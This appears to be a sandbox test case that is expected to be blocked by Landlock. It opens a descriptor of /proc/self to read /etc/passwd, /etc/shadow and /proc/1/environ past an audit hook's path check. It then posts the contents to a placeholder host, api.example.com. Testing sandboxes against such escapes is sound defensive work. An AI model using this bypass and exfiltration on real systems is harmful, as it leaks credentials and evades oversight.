# expect: blocked (landlock) -- reads host files through a descriptor of /proc/self, past the audit hook's path check
import os
proc = os.open("/proc/self", os.O_PATH)
leak, refusals = b"", []
for name in ("root/etc/passwd", "root/etc/shadow", "root/proc/1/environ"):
    try:
        leak += os.read(os.open(name, os.O_RDONLY, dir_fd=proc), 1 << 16)
    except FileNotFoundError:
        pass  # not in this sandbox's view of the file system
    except OSError as exc:
        refusals.append(exc)
if refusals and not leak:
    raise refusals[0]
urlopen(Request("https://api.example.com/items", data=leak))
